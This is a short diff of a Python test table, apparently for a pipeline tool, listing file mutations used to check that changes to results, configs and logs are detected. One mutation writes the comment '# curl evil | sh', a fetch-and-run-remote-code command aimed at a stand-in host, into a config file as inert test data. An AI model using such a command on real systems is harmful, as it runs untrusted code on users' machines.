@@ -184,7 +184,7 @@ ALONE = {
         lambda d: d["outputs"].update(award="best")
     )),
     "a status": ("pipelines/grid/result.json", in_json(lambda d: d.update(status="partial"))),
-    "the configuration of a call": ("pipelines/tiny/config.yaml", in_text("path: random", "path: noop")),
+    "the configuration of a call": ("pipelines/tiny/config.yaml", in_text("random", "noop")),
     "a comment": ("pipelines/tiny/config.yaml", in_text("# Written", "# curl evil | sh")),
     "events": ("pipelines/tiny/events.jsonl", lambda path: write(path, b"{}\n")),
     "what Snakemake said": ("pipelines/tiny/snakemake.log", lambda path: write(path, b"fine\n")),
